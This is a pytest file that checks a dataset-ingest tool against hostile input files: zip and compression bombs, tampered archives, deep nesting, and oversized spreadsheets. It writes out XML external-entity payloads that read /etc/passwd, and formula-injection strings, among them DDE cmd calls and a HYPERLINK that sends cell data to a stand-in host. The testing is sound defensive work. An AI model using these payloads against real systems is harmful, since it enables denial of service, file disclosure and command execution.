"""Files made to do harm end in a message or in rejected rows: quickly, and in little memory."""

import contextlib
import csv
import gzip
import json
import os
import re
import shutil
import signal
import warnings
import zipfile
from pathlib import Path

import corpus_writers as make
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import zstandard

MEGA = 2**20
# What ingest takes for itself, and for a row of the greatest length that is read.
MEMORY = 700 * MEGA
# Far above what any of them takes: none may hang.
SECONDS = 180
PAIR = {"question": "甲是什么？", "answer": "乙"}


@contextlib.contextmanager
def time_limit():
    """Raise TimeoutError in the code inside after SECONDS."""

    def expired(number, frame):
        raise TimeoutError(f"took longer than {SECONDS} s")

    before = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, SECONDS)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


def read(path, **options) -> list[dict]:
    """Rows of a file read in this process."""
    with time_limit():
        return make.read_source(Path(path).parent / "out", {"path": str(path), **options})


def refused(path, **options) -> str:
    """The message with which a file is refused."""
    with pytest.raises(make.Refused) as error:
        read(path, **options)
    message = str(error.value)
    assert str(path) in message or repr(str(path)) in message
    return message


def measured(path: Path, memory: int = MEMORY, **options) -> make.Ended:
    """How ingest ended in a process of its own, having kept within time and memory."""
    folder = path.parent / "out"
    folder.mkdir(exist_ok=True)
    ended = make.run_ingest(folder, {"path": str(path), **options})
    assert "Traceback" not in ended.message, ended.message
    assert ended.status in (0, 1), f"status {ended.status}: {ended.message}"
    assert ended.message.count("\n") == 0 and bool(ended.message) == (ended.status == 1)
    assert ended.peak < memory, f"took {ended.peak / MEGA:.0f} MiB"
    return ended


def rows_of(path: Path) -> list[dict]:
    """Rows that `measured` has left."""
    return pq.read_table(path.parent / "out" / "rows.parquet").to_pylist()


@pytest.fixture(autouse=True)
def nothing_left(tmp_path):
    """Take away the files of a test after it: pytest would keep these large ones for a while."""
    yield
    shutil.rmtree(tmp_path)


# --------------------------------------------------------------------------------------- bombs


def zip_of(path: Path, parts: dict[str, bytes]) -> Path:
    """An archive of parts."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def xlsx_of(path: Path, rows: bytes, **parts: bytes) -> Path:
    """A workbook of the XML of its rows; `parts` replace others: strings, styles, book."""
    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    )
    relation = b'<Relationship Id="%s" Type="%s/%s" Target="%s"/>'
    book = b'<workbook %s xmlns:r="%s"><sheets><sheet name="a" sheetId="1" r:id="s"/></sheets>'
    targets = [
        (b"s", b"worksheet", b"sheet.xml"),
        (b"t", b"sharedStrings", b"strings.xml"),
        (b"f", b"styles", b"styles.xml"),
    ]
    links = b"".join(relation % (name, office, kind, to) for name, kind, to in targets)
    files = {
        "_rels/.rels": relations
        + relation % (b"b", office, b"officeDocument", b"xl/book.xml")
        + b"</Relationships>",
        "xl/book.xml": book % (main, office) + b"</workbook>",
        "xl/_rels/book.xml.rels": relations + links + b"</Relationships>",
        "xl/sheet.xml": b"<worksheet %s>%s</worksheet>" % (main, rows),
        "xl/strings.xml": b"<sst %s><si><t>question</t></si></sst>" % main,
        "xl/styles.xml": b"<styleSheet %s/>" % main,
    }
    return zip_of(path, files | {f"xl/{name}.xml": data for name, data in parts.items()})


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def table(*rows: str) -> bytes:
    return f"<sheetData>{''.join(rows)}</sheetData>".encode()


HEADINGS = f'<row r="1">{cell("A1", "question")}{cell("B1", "answer")}</row>'
ROW = f'<row r="2">{cell("A2", "甲是什么？")}{cell("B2", "乙")}</row>'


def test_workbook_made_by_these_tests_is_read(tmp_path):
    rows = read(xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, ROW)))
    assert [message["content"] for message in rows[0]["messages"]] == ["甲是什么？", "乙"]


@pytest.mark.parametrize("part", ["word/document.xml", "xl/sheet.xml", "xl/strings.xml"])
def test_zip_bomb(tmp_path, part):
    suffix = "docx" if part.startswith("word") else "xlsx"
    path = tmp_path / f"a.{suffix}"
    if suffix == "xlsx":
        xlsx_of(path, table(HEADINGS, ROW))
    with (
        warnings.catch_warnings(action="ignore"),  # the part is there twice
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(part, "w", force_zip64=True) as file,
    ):
        for _ in range(600):
            file.write(bytes(MEGA))
    assert "bomb" in measured(path).message


def test_zip_bomb_with_a_false_size(tmp_path):
    path = zip_of(tmp_path / "a.docx", {"word/document.xml": b"<w>" + b" " * (300 * MEGA)})
    data = bytearray(path.read_bytes())
    central = data.rindex(b"PK\1\2")
    data[central + 24 : central + 28] = (1000).to_bytes(4, "little")
    path.write_bytes(data)
    assert "damaged" in measured(path).message


def test_zip_in_zip_and_overlapping_parts(tmp_path):
    inner = make.write_docx_pairs(tmp_path / "inner.docx", [("甲", "乙")]).read_bytes()
    nested = zip_of(tmp_path / "nested.docx", {"word/document.xml": inner})
    assert "damaged" in refused(nested)
    # two entries of the table of contents point to the same data
    path = zip_of(tmp_path / "a.docx", {"word/document.xml": b"x" * 50, "word/document2.xml": b"y"})
    data = bytearray(path.read_bytes())
    first = data.index(b"PK\1\2")
    second = data.index(b"PK\1\2", first + 1)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    path.write_bytes(data)
    refused(path)


@pytest.mark.parametrize("suffix", [".jsonl", ".json", ".csv", ".txt"])
@pytest.mark.parametrize("packing", [".gz", ".zst"])
def test_packed_bomb(tmp_path, suffix, packing):
    path = tmp_path / f"a{suffix}{packing}"
    lines = b'{"question": "a", "answer": "b"}\n' * 30_000
    if packing == ".gz":
        with gzip.open(path, "wb") as file:
            for _ in range(300):
                file.write(lines)
    else:
        compress = zstandard.ZstdCompressor().compressobj()
        pieces = [compress.compress(lines) for _ in range(300)]
        path.write_bytes(b"".join((*pieces, compress.flush())))
    assert "bomb" in measured(path).message


def test_zstandard_frame_that_asks_for_much_memory(tmp_path):
    path = tmp_path / "a.jsonl.zst"
    # a frame that asks for a window of 2 GiB, and states a size of 2^62 bytes
    path.write_bytes(bytes.fromhex("28b52ffd c0 a8 0000000000000040 010000".replace(" ", "")))
    measured(path)
    parameters = zstandard.ZstdCompressionParameters(window_log=30, compression_level=1)
    line = b'{"question": "a", "answer": "b"}\n'
    path.write_bytes(zstandard.ZstdCompressor(compression_params=parameters).compress(line))
    measured(path)


def test_many_empty_gzip_members(tmp_path):
    path = tmp_path / "a.jsonl.gz"
    path.write_bytes(gzip.compress(b"") * 50_000 + gzip.compress(json.dumps(PAIR).encode()))
    assert measured(path).status == 0 and len(rows_of(path)) == 1


def test_parquet_file_of_few_bytes_and_very_many_texts(tmp_path):
    # one text of a megabyte, written once, that 700 rows refer to
    path = tmp_path / "a.parquet"
    texts = pa.DictionaryArray.from_arrays(pa.array([0] * 700, pa.int32()), ["甲" * 350_000])
    pq.write_table(pa.table({"text": texts}), path)
    assert "bomb" in measured(path).message


# ----------------------------------------------------------------------------------- long lines


STARTS = {
    "jsonl": [b"", b'{"question": "', b"[", b'{"question": "a", "answer": "b"}\n'],
    "json": [b"", b'{"question": "', b"[", b'"', b'[{"question": "a", "answer": "b"}, '],
    "csv": [b"", b'"', "甲,乙\n".encode(), b'question,answer\n"'],
    "tsv": [b'"', b"question\tanswer\n"],
    "txt": [b"", "甲\n\n".encode()],
    "md": [b"# a\n"],
}


@pytest.mark.parametrize(
    ("suffix", "start"), [(suffix, start) for suffix, each in STARTS.items() for start in each]
)
def test_line_of_a_gigabyte(tmp_path, suffix, start):
    path = tmp_path / f"a.{suffix}"
    path.write_bytes(start)
    os.truncate(path, 2**30)  # zero bytes that take no space
    ended = measured(path)
    assert ended.status == 1


@pytest.mark.parametrize("suffix", ["jsonl", "json", "csv", "txt", "md"])
def test_line_of_letters_without_end(tmp_path, suffix):
    path = tmp_path / f"a.{suffix}"
    with path.open("wb") as file:
        file.write(b'{"question": "')
        for _ in range(80):
            file.write(b"abcdefgh" * (MEGA // 8))
    ended = measured(path)
    assert ended.status == 1 and "longer" in ended.message


@pytest.mark.parametrize("suffix", ["docx", "xlsx", "xls", "parquet"])
def test_gigabyte_of_nothing(tmp_path, suffix):
    path = tmp_path / f"a.{suffix}"
    path.touch()
    os.truncate(path, 2**30)
    assert measured(path).status == 1


# ------------------------------------------------------------------------------------------ XML

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
ENTITIES = {
    "laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>', "&l11;"),
    "quadratic": (f'<!DOCTYPE x [<!ENTITY l "{"ha" * 100_000}">]>', "&l;" * 20_000),
    "file": ('<!DOCTYPE x [<!ENTITY l SYSTEM "file:///etc/passwd">]>', "&l;"),
    "network": ('<!DOCTYPE x [<!ENTITY l SYSTEM "http://127.0.0.1:9/x">]>', "&l;"),
    "parameter": ('<!DOCTYPE x [<!ENTITY % l SYSTEM "file:///etc/passwd"> %l;]>', "x"),
    "external type": ('<!DOCTYPE x SYSTEM "file:///etc/passwd">', "x"),
}


@pytest.mark.parametrize("kind", ENTITIES)
@pytest.mark.parametrize("part", ["document", "sheet", "strings", "styles", "book"])
def test_entities(tmp_path, kind, part):
    head, text = ENTITIES[kind]
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    if part == "document":
        body = make.paragraph("甲->PLACE").replace("PLACE", text)
        path = make.write_docx_xml(tmp_path / "a.docx", body, head)
    else:
        xml = {
            "sheet": f"<worksheet {main}><sheetData>{HEADINGS}"
            f'<row r="2">{cell("A2", "甲")}{cell("B2", text)}</row></sheetData></worksheet>',
            "strings": f"<sst {main}><si><t>{text}</t></si></sst>",
            "styles": f'<styleSheet {main}><numFmts><numFmt numFmtId="1" formatCode="0"/>'
            f"</numFmts><x>{text}</x></styleSheet>",
            "book": f'<workbook {main}>{text}<sheets><sheet name="a"/></sheets></workbook>',
        }[part]
        data = f'<?xml version="1.0"?>{head}{xml}'.encode()
        path = xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, ROW), **{part: data})
    if kind in ("laughs", "quadratic"):
        # the parser may notice it first
        assert re.search("document type|entity", measured(path).message)
        return
    message = refused(path)
    assert "document type" in message and "root:" not in message


def test_xml_nested_without_end(tmp_path):
    deep = "<w:p>" * 100_000 + "</w:p>" * 100_000
    assert measured(make.write_docx_xml(tmp_path / "a.docx", deep)).status == 1
    rows = table("<row>" * 100_000 + "</row>" * 100_000)
    assert measured(xlsx_of(tmp_path / "a.xlsx", rows)).status == 1


# ------------------------------------------------------------------------------------ workbooks


def test_sheet_that_claims_all_cells(tmp_path):
    dimension = b'<dimension ref="A1:XFD1048576"/>'
    path = xlsx_of(tmp_path / "a.xlsx", dimension + table(HEADINGS, ROW))
    assert measured(path).status == 0 and len(rows_of(path)) == 1


def test_cell_in_the_last_corner(tmp_path):
    last = f'<row r="1048576">{cell("A1048576", "甲")}{cell("XFD1048576", "乙")}</row>'
    path = xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, ROW, last))
    assert measured(path).status == 0
    assert [row["locator"] for row in rows_of(path)] == ["a!A2", "a!A1048576"]
    counts = json.loads((tmp_path / "out" / "ingest.json").read_text())
    assert counts["sources"][0]["blank"] == 1048576 - 3


def test_rows_of_empty_cells(tmp_path):
    empty = "".join(f'<c r="{letters}2"/>' for letters in column_names(16_384))
    rows = "".join(f'<row r="{n}">{empty.replace("2", str(n))}</row>' for n in range(2, 20))
    many = "".join(f'<row r="{n}"/>' for n in range(20, 1_048_576))
    path = xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, rows, many))
    assert measured(path).status == 0 and rows_of(path) == []


def column_names(count: int) -> list[str]:
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    names = [""]
    for name in names:
        if len(names) > count:
            break
        names += [name + letter for letter in letters]
    return names[1 : count + 1]


@pytest.mark.parametrize("place", ["A0", "A1048577", "XFE2", "ZZZZ2", "2", "A", "a2", "A-1", "é2"])
def test_cell_that_cannot_be(tmp_path, place):
    row = f'<row r="2">{cell(place, "甲")}</row>'
    with contextlib.suppress(make.Refused):
        read(xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, row)))


def test_merged_cells_without_end(tmp_path):
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/>' + "".join(
        f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(2, 60_000)
    )
    path = xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, ROW) + merged.encode() + b"</mergeCells>")
    measured(path)


@pytest.mark.parametrize(
    "value", ["1e999", "-1e999", "nan", "1" * 400, "0x10", "1e-400", "", " ", "١٢", "1_0"]
)
@pytest.mark.parametrize("kind", ["n", "s", "b", "e", "d", "str", "x"])
def test_strange_values_of_cells(tmp_path, value, kind):
    row = f'<row r="2">{cell("A2", "甲")}<c r="B2" t="{kind}"><v>{value}</v></c></row>'
    with contextlib.suppress(make.Refused):
        assert len(read(xlsx_of(tmp_path / "a.xlsx", table(HEADINGS, row)))) == 1


@pytest.mark.parametrize(
    "code",
    ["0" * 5000, "[>1e999]0", ";;;;;;", "[h" * 2000, '"', "\\", "#" * 3000 + "/" * 3000, "@" * 9],
)
def test_strange_number_formats(tmp_path, code):
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    code = code.replace('"', "&quot;").replace(">", "&gt;")
    styles = (
        f'<styleSheet {main}><numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
        '<cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    row = f'<row r="2">{cell("A2", "甲")}<c r="B2" s="1"><v>45123.75</v></c></row>'
    with contextlib.suppress(make.Refused):
        rows = table(HEADINGS, row)
        assert len(read(xlsx_of(tmp_path / "a.xlsx", rows, styles=styles.encode()))) == 1


# ---------------------------------------------------------------------------------------- paths


def test_paths_that_are_no_files(tmp_path):
    os.mkfifo(tmp_path / "pipe.jsonl")
    (tmp_path / "folder.jsonl").mkdir()
    (tmp_path / "loop.jsonl").symlink_to(tmp_path / "loop.jsonl")
    (tmp_path / "dangling.jsonl").symlink_to(tmp_path / "nothing")
    (tmp_path / "zero.jsonl").symlink_to("/dev/zero")
    for name in ("pipe", "folder", "loop", "dangling", "zero", "missing"):
        refused(tmp_path / f"{name}.jsonl")
    for path in ("/dev/zero", "/dev/stdin", "/proc/self/mem", "", ".", "/", "a\0b.jsonl"):
        with pytest.raises(make.Refused), time_limit():
            make.read_source(tmp_path / "out", {"path": path, "format": "jsonl"})
    with pytest.raises(make.Refused):
        make.read_source(tmp_path / "out", {"path": "x" * 1000 + ".jsonl"})


def test_names_of_files_that_are_strange_but_fine(tmp_path):
    (tmp_path / "sub").mkdir()
    for name in ("题库 (1).jsonl", "=1+1.jsonl", "a\nb.jsonl", "-x.jsonl", "*.jsonl", "'\".jsonl"):
        path = tmp_path / name
        make.write_jsonl(path, [PAIR])
        assert len(read(path)) == 1
        assert len(read(tmp_path / "sub" / ".." / name)) == 1
        path.write_text("{")
        assert "\n" not in refused_or_rejected(path)


def test_name_of_a_file_that_is_no_text(tmp_path):
    path = tmp_path / os.fsdecode(b"\xff\xfe.jsonl")
    make.write_jsonl(path, [PAIR])
    with contextlib.suppress(make.Refused):
        read(path)


def refused_or_rejected(path: Path) -> str:
    try:
        rows = read(path)
    except make.Refused as error:
        return str(error)
    assert all(row["reason"] for row in rows)
    return ""


# ----------------------------------------------------------------------------------- empty files

SUFFIXES = ["docx", "xlsx", "xls", "csv", "tsv", "json", "jsonl", "parquet", "txt", "md"]
TEXT_SUFFIXES = ["csv", "tsv", "json", "jsonl", "txt", "md"]


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("data", [b"", b" \n\t\r\n", b"\xef\xbb\xbf", b"\xff\xfe", b"\0", b"\xff"])
def test_files_of_nothing(tmp_path, suffix, data):
    path = tmp_path / f"a.{suffix}"
    path.write_bytes(data)
    with contextlib.suppress(make.Refused):
        rows = read(path)
        assert all(row["reason"] for row in rows)
    if suffix in TEXT_SUFFIXES:
        for packing in (".gz", ".zst"):
            with contextlib.suppress(make.Refused):
                read(make.packed(path, packing))
            path.with_name(path.name + packing).write_bytes(data)
            with contextlib.suppress(make.Refused):
                read(path.with_name(path.name + packing))


# ----------------------------------------------------------------------------------------- JSON

DEEP = 100_000
NESTED = {
    "lists": "[" * DEEP + "]" * DEEP,
    "objects": '{"a":' * DEEP + "1" + "}" * DEEP,
    "open lists": "[" * DEEP,
    "open objects": '{"question":' * DEEP,
    "900": "[" * 900 + "]" * 900,
    "1100": "[" * 1100 + "]" * 1100,
    "3000": "[" * 3000 + "]" * 3000,
    "minus": f"[{'-' * DEEP}1]",
    "sum": f"[{'1+' * DEEP}1]",
    "not": f"[{'not ' * DEEP}1]",
    "digits": f"[{'9' * DEEP}]",
    "tuple": f"[{'(' * DEEP}{')' * DEEP}]",
    "string": "['" + "\\x41" * DEEP + "']",
}


@pytest.mark.parametrize("kind", NESTED)
@pytest.mark.parametrize("field", ["answer", "messages", "history", "options", "chosen", "other"])
def test_nesting(tmp_path, kind, field):
    value = NESTED[kind]
    pair = '"question": "甲", "answer": "乙"'
    more = {
        "answer": f'"question": "甲", "answer": {value}',
        "messages": f'"messages": {value}',
        "chosen": f'"prompt": "甲", "rejected": "乙", "chosen": {value}',
    }.get(field, f'{pair}, "{field}": {value}')
    lines = tmp_path / "a.jsonl"
    lines.write_text(f"{{{more}}}\n{json.dumps(PAIR)}\n", encoding="utf-8")
    assert len(read(lines)) == 2
    document = tmp_path / "a.json"
    document.write_text(f"[{{{more}}}]", encoding="utf-8")
    with contextlib.suppress(make.Refused):
        read(document)
    cells = {"question": "甲", "answer": "乙", field: value}
    if field == "chosen":
        cells = {"prompt": "甲", "rejected": "乙", field: value}
    assert len(read(make.write_csv(tmp_path / "a.csv", [cells, cells]))) == 2


def test_deep_nesting_does_not_crash_the_interpreter(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text("\n".join([json.dumps(PAIR), *NESTED.values()]))
    assert measured(path).status == 0
    rows = rows_of(path)
    assert len(rows) == len(NESTED) + 1 and all(row["reason"] for row in rows[1:])


STRANGE = [
    *("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e-999", "9" * 5000, "0.1e5", "-0"),
    *('"\\ud800"', '"\\udc00\\ud800"', '"a\\u0000b"', '"\\ud83d\\ude00"', "[]", "{}", "true"),
    *("null", '""', '" "', "[null]", '["a", 1]', '{"a": null}', '"\x7f"', "18446744073709551616"),
]


@pytest.mark.parametrize("value", STRANGE, ids=lambda value: ascii(value)[:20])
def test_strange_values(tmp_path, value):
    lines = [
        f'{{"question": {value}, "answer": "乙"}}',
        f'{{"question": "甲", "answer": "乙", "note": {value}}}',
        f'{{"messages": [{{"role": "user", "content": {value}}}, {value}]}}',
        f'{{"question": "甲", "options": ["x", {value}], "answer": "A"}}',
        f'{{"question": "甲", "options": {value}, "answer": "A"}}',
        f'{{"prompt": "甲", "chosen": {value}, "rejected": "乙"}}',
        f'{{"instruction": "甲", "output": "乙", "history": {value}}}',
        f'{{"instruction": "甲", "output": "乙", "history": [[{value}, {value}]]}}',
        f'{{"chat": {{"turn_1": {value}}}, "num_turns": {value}}}',
        f'{{"conversation": [{{"input": {value}, "output": {value}}}]}}',
        f'{{"text": {value}}}',
        value,
    ]
    if value.startswith('"'):
        lines.append(f'{{{value}: "甲", "answer": "乙"}}')
    path = tmp_path / "a.jsonl"
    path.write_text("\n".join(lines), encoding="utf-8")
    rows = read(path)
    assert len(rows) == len(lines)
    assert all(row["reason"] or row["kind"] for row in rows)
    document = tmp_path / "a.json"
    document.write_text(f"[{','.join(lines)}]", encoding="utf-8")
    assert len(read(document)) == len(lines)


def test_half_characters_are_rejected_with_their_row_only(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text('{"question": "a\\ud800b", "answer": "c"}\n' + json.dumps(PAIR))
    rows = read(path)
    assert [row["reason"] for row in rows] == ["undecodable", None]
    assert "ud800" in rows[0]["original"]


# --------------------------------------------------------------------------------------- tables


def test_a_million_columns(tmp_path):
    path = tmp_path / "a.csv"
    width = 10**6
    with path.open("w") as file:
        file.write("question,answer," + ",".join(f"c{n}" for n in range(width)) + "\n")
        file.write("a,b" + ",x" * width + "\n")
    measured(path, memory=2**30)
    assert len(rows_of(path)) == 1


def test_objects_of_very_many_fields(tmp_path):
    path = tmp_path / "a.jsonl"
    with path.open("w") as file:
        for start in range(3):
            fields = (f'"c{start}{n}": 1' for n in range(10**5))
            file.write(f'{{"question": "a", "answer": "b", {",".join(fields)}}}\n')
    assert measured(path).status == 0 and len(rows_of(path)) == 3


def test_fields_without_end(tmp_path):
    path = tmp_path / "a.jsonl"
    with path.open("w") as file:
        for number in range(50_000):
            file.write(f'{{"question": "a{number}", "answer": "b", "f{number}": 1}}\n')
    assert measured(path).status == 0 and len(rows_of(path)) == 50_000


TABLES = [
    *('"', '""', '"a', 'question,answer\n"a', 'question,answer\na,"b\n' * 50, ",", ",,,\n,,,"),
    *("question,question\na,b", "question,answer\na\0,b", "a,b\rc,d\re,f", "\x1f"),
    *("a|b;c,d\te", 'question,answer\n"a"b,c', "question,answer\na,b,c,d"),
    "question\n" + "\n" * 99_999 + "a",
    "question,answer\n" + "甲" * 5_000_000 + ",b",
]


@pytest.mark.parametrize("text", TABLES, ids=lambda text: ascii(text)[:20])
@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_strange_tables(tmp_path, text, suffix):
    path = tmp_path / f"a.{suffix}"
    path.write_bytes(text.encode())
    with contextlib.suppress(make.Refused):
        read(path)


# ------------------------------------------------------------------------------ formula injection

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"甲")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "http://example.org/" + "x" * 3000,
    "mailto:a@example.org",
    "internal:Sheet!A1",
    "{=SUM(A1:A2)}",
]


@pytest.fixture
def with_formulas(tmp_path):
    """A folder with rows of which all begin as formulas do, half of them rejected."""
    rows = [{"question": f"{text} 甲{n}？", "answer": text} for n, text in enumerate(FORMULAS)]
    rows += [{"question": text, "answer": ""} for text in FORMULAS]
    path = make.write_jsonl(tmp_path / "=1+1.jsonl", rows)
    book = make.write_xlsx(tmp_path / "=2+2.xlsx", rows)
    make.read_source(tmp_path, {"path": str(path)}, {"path": str(book)})
    return tmp_path


def test_no_formulas_in_the_table_of_rejected_rows(with_formulas):
    import clean

    make.call(
        clean.main,
        *("--rows", with_formulas / "rows.parquet", "--rules", json.dumps(make.RULES)),
        *("--split", json.dumps({"heldout": 0.3, "seed": 1})),
        *("--records", with_formulas / "records.parquet"),
        *("--rejected", with_formulas / "rejected.jsonl"),
        *("--rejected-table", with_formulas / "rejected.csv"),
    )
    with (with_formulas / "rejected.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) > 2 * 5 * len(FORMULAS)
    assert not [cell for cell in cells if re.match(r"\s*[=+\-@]", cell)]
    # the machine-readable form has them as they were
    lines = (with_formulas / "rejected.jsonl").read_text(encoding="utf-8").splitlines()
    originals = [json.loads(line)["original"] for line in lines]
    assert any(json.loads(text).get("question") == FORMULAS[0] for text in originals)


def test_no_formulas_in_the_workbook_for_the_review(with_formulas):
    import review

    path = with_formulas / "review.xlsx"
    make.call(
        review.main,
        *("--rows", with_formulas / "rows.parquet", "--counts", with_formulas / "ingest.json"),
        *("--rules", json.dumps(make.RULES), "--review", path),
    )
    book = openpyxl.load_workbook(path)
    values = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    texts = {c.value for c in values}
    assert FORMULAS[0] in texts
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            data = archive.read(name)
            assert b"example.org" not in data or b"<hyperlink" not in data
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                formulas = re.findall(rb"<f[ >].*?</f>", data)
                assert not [
                    formula for formula in formulas if b"cmd" in formula or b"1+1" in formula
                ]
    assert not [c for c in values if c.data_type == "f" and ("cmd" in c.value or "1+1" in c.value)]
